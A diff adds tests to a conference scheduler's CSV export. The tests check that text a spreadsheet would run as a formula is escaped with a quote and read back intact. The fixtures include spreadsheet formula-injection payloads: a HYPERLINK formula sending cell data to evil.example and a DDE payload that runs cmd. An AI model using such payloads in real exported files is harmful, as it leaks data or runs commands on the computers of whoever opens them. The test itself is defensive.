@@ -262,3 +262,65 @@ def test_dataframes_read_back_what_was_written(written: Path) -> None:
     assert schedule["interpreted"].tolist() == [True]
     assert schedule["attendees"].tolist() == [3]
     assert from_files["unscheduled"]["item_id"].tolist() == ["nc-kil-man", "pm-kil-osn", "s-late"]
+
+
+# --- spreadsheet formula injection ------------------------------------------------------
+
+# The issue's examples, and the other starts a spreadsheet reads as a formula
+HOSTILE_TITLES = {
+    "s-link": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "s-cmd": "+cmd|' /C calc'!A0",
+    "s-sum": "@SUM(1+1)",
+    "s-minus": "-2+3",
+    "s-tab": "\tTab",
+    "s-quote": "'=already quoted",
+    "s-blank": "  =1+1",
+    "s-break": "\n=1+1",
+}
+
+
+def test_text_that_a_spreadsheet_would_run_is_written_with_a_quote_and_read_back(
+    tmp_path: Path,
+) -> None:
+    from scheduler.check import check, check_written
+    from scheduler.matchmaking import match
+    from scheduler.review import read_outputs
+    from scheduler.solve import SolveOptions, solve
+
+    conf = conference(
+        participants=[participant(f"p{i}", interests={"digital": 3}) for i in range(3)],
+        sessions=[
+            session(sid, titles={"de": title, "tr": title, "en": title})
+            for sid, title in HOSTILE_TITLES.items()
+        ],
+    )
+    matchmaking = match(conf)
+    schedule = solve(conf, matchmaking, SolveOptions(time_limit=5, deterministic=True))
+    assert check(conf, matchmaking, schedule) == []
+    assert {e.event_id for e in schedule.events} == set(HOSTILE_TITLES)
+    write_tables(conf, matchmaking, schedule, tmp_path)
+
+    header, *lines = rows(tmp_path / "schedule.csv")
+    written = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
+    for sid, title in HOSTILE_TITLES.items():
+        assert written[sid]["title_de"] == "'" + title, sid  # a spreadsheet shows it as text
+        assert written[sid]["title_tr"] == "'" + title, sid
+        assert written[sid]["room"] == str(schedule.events_by_id[sid].room)  # numbers as numbers
+    # `scheduler check` reads the original titles back (it compares them with the plan) ...
+    assert check_written(conf, matchmaking, tmp_path) == []
+    # ... and so do read_tables and the notebooks' read_outputs
+    titles = read_tables(tmp_path)["schedule"].set_index("event_id")["title_de"].to_dict()
+    assert titles == HOSTILE_TITLES
+    in_memory = table_frames(conf, matchmaking, schedule)
+    for name, frame in read_outputs(tmp_path).items():
+        pd.testing.assert_frame_equal(frame, in_memory[name], obj=name)
+
+
+def test_numbers_stay_numbers_and_text_columns_are_guarded(tmp_path: Path) -> None:
+    from scheduler.export.tables import MATCHES_COLUMNS, read_csv, write_csv
+
+    row = {"city_a": "@a", "city_b": "=b", "kind": "new", "score": "-0.25"}
+    row |= {"reasons": "-0.25", "event_id": "+1"}
+    write_csv(tmp_path / "matches.csv", MATCHES_COLUMNS, [row])
+    assert rows(tmp_path / "matches.csv")[1] == ["'@a", "'=b", "new", "-0.25", "'-0.25", "'+1"]
+    assert read_csv(tmp_path / "matches.csv").iloc[0].to_dict() == row
